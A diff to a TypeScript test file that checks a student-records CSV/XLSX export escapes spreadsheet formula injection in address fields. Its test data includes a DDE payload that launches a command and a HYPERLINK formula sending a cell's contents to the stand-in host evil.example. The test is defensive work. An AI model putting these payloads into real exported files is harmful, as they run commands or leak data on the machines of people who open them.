@@ -15,6 +15,12 @@ const awkward = fc.constantFrom(
   '@',
   '.',
   '1',
+  '+1',
+  '-.2',
+  '(',
+  '/',
+  'x',
+  'A1',
   '\t',
   '\r',
   '\n',
@@ -75,6 +81,23 @@ test.each(['csv', 'xlsx'])(
     expect(body).toMatchObject({ total_rows: 400, unchanged: 400, updated: 0, created: 0 });
   },
 );
+
+test('what begins like a number is kept from being run where it goes on as a formula', async () => {
+  const run = ["-2+3+cmd|' /C calc'!A0", '+1+HYPERLINK("http://evil.example/?"&E2,"x")', '-1 A1', '+1\n=A1'];
+  const harmless = ['-5', '+.25', '+49 (30) 1234-56/7 x89', '-1 Basement'];
+  const user = await app.current.make.aUser({ role: 'registrar' });
+  for (const text of [...run, ...harmless]) await app.current.make.aStudent(user.institution, { address_street: text });
+  const client = await app.current.as(user);
+  const { body } = await client.get('/students/export');
+  for (const text of run) expect(body).toContain(`2024-09-01,${csvField(`'${text}`)},`);
+  for (const text of harmless) expect(body).toContain(`2024-09-01,${text},`);
+  const again = await client.post('/students/import', formWith(body, { mode: 'upsert' }));
+  expect(again.body).toMatchObject({ unchanged: 8, failed: 0 });
+});
+
+function csvField(text: string): string {
+  return /[",\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
+}
 
 /** The XML of all parts of a workbook. */
 async function textsOf(workbook: Buffer): Promise<string> {
